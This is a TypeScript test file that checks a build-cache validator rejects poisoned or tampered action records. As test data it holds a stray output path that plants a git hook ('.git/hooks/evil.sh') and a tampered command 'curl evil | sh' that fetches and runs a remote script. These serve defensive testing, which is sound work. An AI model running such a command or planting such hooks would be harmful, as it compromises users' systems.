import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { ActionRecord, OutputEntry } from '../../src/cas/action-cache.js';
import { keyRecordProblem, recordMismatch } from '../../src/cache/record-check.js';
import type { FileDigest, ResultHash } from '../../src/hash/digest.js';
import { computeTaskKey, makeKeyRecord } from '../../src/hash/task-key.js';

const D = 'a'.repeat(64) as FileDigest;
const file = (p: string): OutputEntry => ({ path: p, kind: 'file', digest: D, size: 1, mode: 0o644 });

function record(declared: string[], outputs: OutputEntry[], task = 'build'): ActionRecord {
  const keyRecord = makeKeyRecord({ cmd: 'make', inputs: [], deps: [], outputs: declared, env: [] });
  return {
    version: 1,
    task,
    key: computeTaskKey(keyRecord),
    keyRecord,
    resultHash: 'b'.repeat(64) as ResultHash,
    outputs,
    exitCode: 0,
    durationMs: 1,
    createdAt: new Date(0).toISOString(),
  };
}

test('a record with exactly the declared outputs (and entries below a declared directory) is accepted', () => {
  const declared = ['bin/app', 'out'];
  const r = record(declared, [file('bin/app'), { path: 'out', kind: 'dir' }, { path: 'out/sub', kind: 'dir' }, file('out/sub/x')]);
  assert.equal(recordMismatch(r, 'build', declared), undefined);
});

test('a stray path, a missing output, a path below a declared file, another task: refused', () => {
  const declared = ['bin/app', 'out'];
  const ok = [file('bin/app'), { path: 'out', kind: 'dir' as const }];
  assert.match(recordMismatch(record(declared, [...ok, file('.git/hooks/evil.sh')]), 'build', declared) ?? '', /\.git\/hooks\/evil\.sh.*not a declared output/);
  assert.match(recordMismatch(record(declared, [file('bin/app')]), 'build', declared) ?? '', /lacks the declared output "out"/);
  assert.match(recordMismatch(record(['bin'], [file('bin'), file('bin/x')]), 'build', ['bin']) ?? '', /"bin\/x".*not a declared output/);
  assert.match(recordMismatch(record(declared, ok, 'other'), 'build', declared) ?? '', /made by task "other"/);
  assert.match(recordMismatch(record(declared, [...ok, file('bin/app')]), 'build', declared) ?? '', /twice/);
});

test('a key record that does not hash to the key is refused', () => {
  const r = record(['a'], [file('a')]);
  assert.equal(keyRecordProblem(r), undefined);
  const tampered = { ...r, keyRecord: { ...(r.keyRecord as object), cmd: 'curl evil | sh' } };
  assert.match(keyRecordProblem(tampered) ?? '', /does not hash to its key/);
  assert.match(recordMismatch(tampered, 'build', ['a']) ?? '', /does not hash/);
  assert.match(keyRecordProblem({ ...r, keyRecord: 'nope' }) ?? '', /malformed/);
});
